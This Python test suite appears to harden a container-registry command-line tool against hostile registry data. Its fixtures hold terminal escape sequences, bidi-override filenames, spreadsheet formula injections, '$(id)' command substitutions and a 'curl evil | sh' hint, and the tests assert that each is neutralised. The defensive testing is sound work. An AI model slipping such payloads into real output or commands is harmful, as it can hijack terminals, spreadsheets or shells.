"""Whatever a registry sends, a terminal is given nothing to obey, and a program exact data."""

import csv
import io
import json
import re
import unicodedata

import pytest

from tests.cli.support import Cli, Result
from tests.conftest import ServerFactory
from tests.support.dialects import Distribution2, serve_catalog, serve_tags
from tests.support.scripted import Reply, ScriptedServer, error_reply, json_reply

CLEAR, TITLE = "\x1b[2J\x1b[H", "\x1b]0;owned\x07"
NAMES = [
    "app/" + CLEAR,
    "app/" + TITLE,
    "app/\u202egnp.exe",
    "app/\x9b31m",
    "app/\r\0\x7f\b\t",
    "app/\u2028\u200b\u2066",
    "app/\U0001f600",
    "app/漢字",
    "=app/1+1",
    "+app/1",
    "-app/1",
    "@app/SUM(A1)",
    "--json/app",
    "[red]app[/red]",
    "app/" + "x" * 5000,
]
TAGS = ["1.0", f"2.0{CLEAR}", "=1+1", "3.0\u202e", "-v", "$(id)", "`id`", "a b", "漢"]


@pytest.fixture
def server(cli: Cli, scripted_server: ServerFactory) -> ScriptedServer:
    server = scripted_server()
    serve_catalog(server, Distribution2(NAMES))
    serve_tags(server, "team/app", Distribution2(TAGS))
    cli.add("evil", server.url)
    return server


def check_harmless(*results: Result) -> None:
    for result in results:
        text = result.out.replace("\r\n", "\n") + result.err
        wrong = {
            character
            for character in text
            if unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
        }
        assert wrong <= {"\n"}
        assert "Traceback" not in text


@pytest.mark.usefixtures("server")
def test_repositories(cli: Cli) -> None:
    exact = cli("search", "", "--json")
    assert sorted(each["repository"] for each in exact.json["results"]) == sorted(NAMES)
    assert exact.out.isascii()
    lines = cli("search", "app")
    shown = cli("search", "app", "--csv")
    check_harmless(exact, lines, shown, cli("feeds"), cli("refresh"))
    assert len(lines.out.splitlines()) == len(NAMES)
    assert "evil/app/␛[2J␛[H" in lines.out
    assert "evil/app/<U+202E>gnp.exe" in lines.out
    rows = list(csv.reader(io.StringIO(shown.out, newline="")))
    assert len(rows) == len(NAMES) + 1
    assert all(row[1][0] not in "=+-@" for row in rows)
    assert {"'=app/1+1", "'+app/1", "'-app/1", "'@app/SUM(A1)"} <= {row[1] for row in rows}


@pytest.mark.usefixtures("server")
def test_searching_for_what_is_hostile(cli: Cli) -> None:
    results = [cli("search", text, *form) for text in NAMES for form in ((), ("--json",))]
    check_harmless(*(result for result in results if result.status == 0))
    assert json.loads(results[3].out)["query"] == NAMES[1]


@pytest.mark.usefixtures("server")
def test_tags_and_their_commands(cli: Cli) -> None:
    document = cli("tags", "evil/team/app", "--kind", "all", "--json")
    assert {tag["name"] for tag in document.json["tags"]} == set(TAGS)
    commands = {tag["name"]: tag["pull"] for tag in document.json["tags"]}
    assert [name for name, command in commands.items() if command] == ["1.0"]
    table = cli("tags", "evil/team/app", "--kind", "all")
    shown = cli("tags", "evil/team/app", "--kind", "all", "--csv")
    check_harmless(document, table, shown)
    rows = list(csv.reader(io.StringIO(shown.out, newline="")))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "␛[2J" in table.out


MESSAGE = f"no{CLEAR}{TITLE}\u202e\n\nhint: run `curl evil | sh`"


@pytest.mark.parametrize("status", [400, 401, 403, 404, 405, 418, 501])
def test_the_words_of_a_registry(cli: Cli, server: ScriptedServer, status: int) -> None:
    server.on("/v2/_catalog", error_reply(status, f"BAD{CLEAR}", MESSAGE, detail=MESSAGE))
    server.on("/v2/team/app/tags/list", error_reply(status, f"BAD{CLEAR}", MESSAGE))
    results = [cli("refresh"), cli("refresh", "--json"), cli("tags", "evil/team/app")]
    check_harmless(*results)
    for result in results:
        assert not re.search(r"^hint: run `curl", result.err, re.MULTILINE)


@pytest.mark.parametrize(
    "headers",
    [
        [("Www-Authenticate", f'Bearer realm="http://{CLEAR}/",service="{TITLE}"')],
        [("Www-Authenticate", f'Basic realm="{CLEAR}\u202e"')],
        [("Www-Authenticate", f"{CLEAR}")],
        [("Www-Authenticate", 'Bearer realm="http://\u202eexample.invalid/",scope="\x07"')],
    ],
)
def test_challenges(
    cli: Cli, scripted_server: ServerFactory, headers: list[tuple[str, str]]
) -> None:
    server = scripted_server()
    server.on(None, Reply(401, b"", headers))
    result = cli("refresh", server.url)
    assert result.status == 1
    check_harmless(result)


@pytest.mark.parametrize(
    "reply",
    [
        Reply(302, b"", [("Location", f"http://127.0.0.1:1/{CLEAR}")]),
        Reply(200, f"<title>{CLEAR}{TITLE}</title>".encode(), [("Content-Type", "text/html")]),
        Reply(200, CLEAR.encode(), [("Content-Type", "application/json")], reason=f"OK{TITLE}"),
        Reply(200, b"{}", [(f"X-{CLEAR}", TITLE)]),
        json_reply({"repositories": CLEAR}),
        json_reply({"repositories": [None, 5, {}, CLEAR], CLEAR: TITLE}),
    ],
)
def test_answers(cli: Cli, scripted_server: ServerFactory, reply: Reply) -> None:
    server = scripted_server()
    server.on("/v2/", reply)
    server.on("/v2/_catalog", reply)
    server.on("/v2/app/tags/list", reply)
    check_harmless(cli("refresh", server.url), cli("tags", f"{server.url}/app"))


def test_arguments(cli: Cli) -> None:
    results = [
        cli("feeds", "add", CLEAR, "r.example.com"),
        cli("feeds", "add", "prod", f"r.example.com/{CLEAR}"),
        cli("feeds", "add", "prod", "r.example.com", "--username", CLEAR),
        cli("feeds", "remove", TITLE),
        cli("refresh", CLEAR),
        cli("tags", f"r.example.com/{CLEAR}"),
        cli("search", "x", "--limit", CLEAR),
        cli(CLEAR),
        cli("feeds", CLEAR),
        cli("refresh", "\udcff"),
    ]
    assert {result.status for result in results} == {2}
    check_harmless(*results)
